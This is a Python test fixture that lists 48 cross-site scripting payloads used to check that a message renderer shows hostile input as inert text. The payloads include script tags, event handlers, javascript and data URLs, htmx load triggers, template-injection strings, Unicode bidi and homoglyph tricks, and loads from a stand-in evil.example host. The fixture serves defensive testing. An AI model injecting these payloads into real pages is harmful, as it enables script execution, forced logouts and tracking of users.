"""Hostile message bodies: each must render as inert text (checked by unit tests and in a real browser).

Each entry is (name, body). Every body contains the marker `XSS<n>` somewhere visible, so a browser test can
find the rendered message on the page; none may run script, load anything, or change the page around it.
"""

from __future__ import annotations

_LONG = "A" * 9_000

XSS_CORPUS: list[tuple[str, str]] = [
    ("script tag", "XSS1 <script>alert(1)</script>"),
    ("script src", 'XSS2 <script src="https://evil.example/x.js"></script>'),
    ("img onerror", "XSS3 <img src=x onerror=alert(3)>"),
    ("svg onload", "XSS4 <svg onload=alert(4)><circle r=1 /></svg>"),
    ("body onload", "XSS5 <body onload=alert(5)>"),
    ("event handler on a link", 'XSS6 <a href="https://ok.example" onclick="alert(6)">click</a>'),
    ("markdown javascript link", "XSS7 [click me](javascript:alert(7))"),
    ("bare javascript url", "XSS8 javascript:alert(8)"),
    ("uppercase javascript scheme", "XSS9 [x](JaVaScRiPt:alert(9)) JAVASCRIPT:alert(9)"),
    ("data url", "XSS10 data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4="),
    ("markdown data link", "XSS11 [x](data:text/html,<script>alert(11)</script>)"),
    ("vbscript", "XSS12 [x](vbscript:msgbox(12)) vbscript:msgbox(12)"),
    ("htmx get on load", "XSS13 <div hx-get=/accounts/logout/ hx-trigger=load>x</div>"),
    ("htmx on", 'XSS14 <button hx-on:click="alert(14)">press</button>'),
    ("htmx data prefix", '<div data-hx-post="/x" data-hx-trigger="load">XSS15</div>'),
    ("htmx swap oob", '<div id="main" hx-swap-oob="true">XSS16 replaced</div>'),
    ("django template syntax", "XSS17 {{ request.user.password }} {% csrf_token %} {# c #}"),
    ("jinja-like expression", "XSS18 {{7*7}} ${7*7} #{7*7}"),
    ("rtl override", "XSS19 \u202egnp.exe\u202c and \u2067isolated\u2069 \u202aembedded\u202c"),
    ("zero width", "XSS20 java\u200bscript:alert(20) \u200d\ufeff\u200c"),
    ("entity-encoded scheme", "XSS21 [x](jav&#x09;ascript:alert(21)) jav&#x09;ascript:alert(21)"),
    ("tab inside scheme", "XSS22 [x](java\tscript:alert(22))"),
    ("nested markdown link", "XSS23 [[x](javascript:alert(23))](https://ok.example)"),
    ("link title injection", 'XSS24 [x](https://ok.example "title" onmouseover="alert(24)")'),
    ("quote breaking url", 'XSS25 https://ok.example/"onmouseover="alert(25)"'),
    ("iframe", '<iframe src="https://evil.example/frame">XSS26</iframe>'),
    ("style tag", "XSS27 <style>body{background:url(https://evil.example/bg)}</style>"),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">XSS28'),
    ("css expression", '<p style="width:expression(alert(29));background:url(//evil.example/p)">XSS29</p>'),
    ("markdown image", "XSS30 ![pixel](https://evil.example/pixel.png)"),
    ("object and embed", '<object data="https://evil.example/o"></object><embed src="//evil.example/e">XSS31'),
    ("form with action", '<form action="https://evil.example/"><input name=q autofocus onfocus=alert(32)>XSS32</form>'),
    ("html comment and cdata", "XSS33 <!-- <script>alert(33)</script> --> <![CDATA[<script>alert(33)</script>]]>"),
    ("autolink to javascript", "XSS34 <javascript:alert(34)>"),
    ("protocol relative", "XSS35 //evil.example/x and [x](//evil.example/x)"),
    ("base tag", '<base href="https://evil.example/">XSS36'),
    ("link preload", '<link rel="prefetch" href="https://evil.example/l">XSS37'),
    ("srcset", '<img srcset="https://evil.example/s 1x">XSS38'),
    ("unclosed tag", "XSS39 <img src=x onerror=alert(39) "),
    ("code span with html", "XSS40 `<script>alert(40)</script>` and\n```\n<img src=x onerror=alert(40)>\n```"),
    ("emphasis around html", "XSS41 **<img src=x onerror=alert(41)>** _<svg/onload=alert(41)>_"),
    ("unicode homoglyph scheme", "XSS42 [x](\uff4aavascript:alert(42)) \u02b2avascript:alert(42)"),
    ("mailto with script", "XSS43 mailto:a@b.example?subject=<script>alert(43)</script>"),
    ("very long token", f"XSS44 {_LONG}"),
    ("very long url", f"XSS45 https://ok.example/{'a' * 5_000}"),
    ("many emphasis markers", "XSS46 " + "*_" * 2_000),
    ("math and svg namespace", "XSS47 <math><mi xlink:href=javascript:alert(47)>x</mi></math>"),
    ("noscript mutation", '<noscript><p title="</noscript><img src=x onerror=alert(48)>">XSS48</p></noscript>'),
]
